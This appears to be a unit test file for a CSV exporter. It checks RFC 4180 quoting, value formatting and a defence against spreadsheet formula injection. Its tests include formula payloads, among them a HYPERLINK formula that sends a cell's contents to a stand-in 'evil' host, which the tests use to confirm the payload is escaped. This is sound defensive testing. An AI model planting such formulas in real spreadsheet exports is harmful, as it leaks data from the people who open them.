import { csvCellText, toCsv } from './csv';

const cols = [
  { key: 'kpi', header: 'KPI' },
  { key: 'value', header: 'Value' },
];

describe('toCsv (RFC 4180)', () => {
  it('writes a header row and ends every record with CRLF', () => {
    expect(toCsv(cols, [{ kpi: 'WIN_RATE', value: 0.25 }, { kpi: 'SALES_CYCLE', value: 41.5 }])).toBe('KPI,Value\r\nWIN_RATE,0.25\r\nSALES_CYCLE,41.5\r\n');
  });

  it('is just the header without rows', () => {
    expect(toCsv(cols, [])).toBe('KPI,Value\r\n');
  });

  it('keeps the column order and ignores other properties', () => {
    expect(toCsv([cols[1], cols[0]], [{ kpi: 'WIN_RATE', value: 1, extra: 'x' }])).toBe('Value,KPI\r\n1,WIN_RATE\r\n');
  });

  it('quotes fields with a comma, a quote, CR or LF and doubles the quotes', () => {
    const rows = [{ kpi: 'Acme, Inc.', value: 'say "hi"' }, { kpi: 'two\nlines', value: 'cr\rhere' }, { kpi: 'crlf\r\nend', value: 'plain' }];
    expect(toCsv(cols, rows)).toBe('KPI,Value\r\n"Acme, Inc.","say ""hi"""\r\n"two\nlines","cr\rhere"\r\n"crlf\r\nend",plain\r\n');
  });

  it('quotes headers too', () => {
    expect(toCsv([{ key: 'a', header: 'Amount, EUR' }], [{ a: 5 }])).toBe('"Amount, EUR"\r\n5\r\n');
  });

  it('writes null and undefined (and a missing property) as empty fields', () => {
    expect(toCsv([...cols, { key: 'group', header: 'Group' }], [{ kpi: null, value: undefined }])).toBe('KPI,Value,Group\r\n,,\r\n');
  });

  it('writes numbers with String(n): no locale, no grouping, negatives unprefixed', () => {
    expect(toCsv([{ key: 'n', header: 'n' }], [{ n: 1234567.5 }, { n: -3 }, { n: 0 }, { n: 1e21 }, { n: 0.1 + 0.2 }])).toBe(
      'n\r\n1234567.5\r\n-3\r\n0\r\n1e+21\r\n0.30000000000000004\r\n',
    );
    expect([Number.NaN, Infinity, -Infinity].map(csvCellText)).toEqual(['', '', '']);
  });

  it('writes dates as ISO 8601 in UTC, invalid ones empty', () => {
    expect(toCsv([{ key: 'at', header: 'at' }], [{ at: new Date('2026-03-10T23:30:00-04:00') }, { at: new Date('nope') }])).toBe('at\r\n2026-03-11T03:30:00.000Z\r\n\r\n');
  });

  it('writes objects and arrays as JSON, quoted as needed', () => {
    expect(toCsv([{ key: 'o', header: 'o' }], [{ o: { a: 1, b: 'x' } }, { o: [1, 2] }, { o: {} }])).toBe('o\r\n"{""a"":1,""b"":""x""}"\r\n"[1,2]"\r\n{}\r\n');
  });

  it('writes booleans and bigints as text', () => {
    expect(toCsv([{ key: 'b', header: 'b' }], [{ b: true }, { b: false }, { b: 12345678901234567890n }])).toBe('b\r\ntrue\r\nfalse\r\n12345678901234567890\r\n');
  });
});

describe('toCsv: formula injection', () => {
  it('prefixes a string cell starting with =, +, -, @, tab or CR with a quote', () => {
    const rows = ['=1+1', '+1', '-2', '@SUM(A1)', '\tx', '\r=x'].map((name) => ({ name }));
    expect(toCsv([{ key: 'name', header: 'name' }], rows)).toBe("name\r\n'=1+1\r\n'+1\r\n'-2\r\n'@SUM(A1)\r\n'\tx\r\n\"'\r=x\"\r\n");
  });

  it('still quotes a prefixed cell that needs it', () => {
    expect(csvCellText('=HYPERLINK("http://evil/?"&A1, "click")')).toBe('\'=HYPERLINK("http://evil/?"&A1, "click")');
    expect(toCsv([{ key: 'c', header: 'c' }], [{ c: '=HYPERLINK("x", "y")' }])).toBe('c\r\n"\'=HYPERLINK(""x"", ""y"")"\r\n');
  });

  it('leaves other strings, numbers and dates alone', () => {
    expect(['a=b', ' =1', "'quoted", 'Ana-Maria', ''].map(csvCellText)).toEqual(['a=b', ' =1', "'quoted", 'Ana-Maria', '']);
    expect(csvCellText(-0.5)).toBe('-0.5');
  });
});
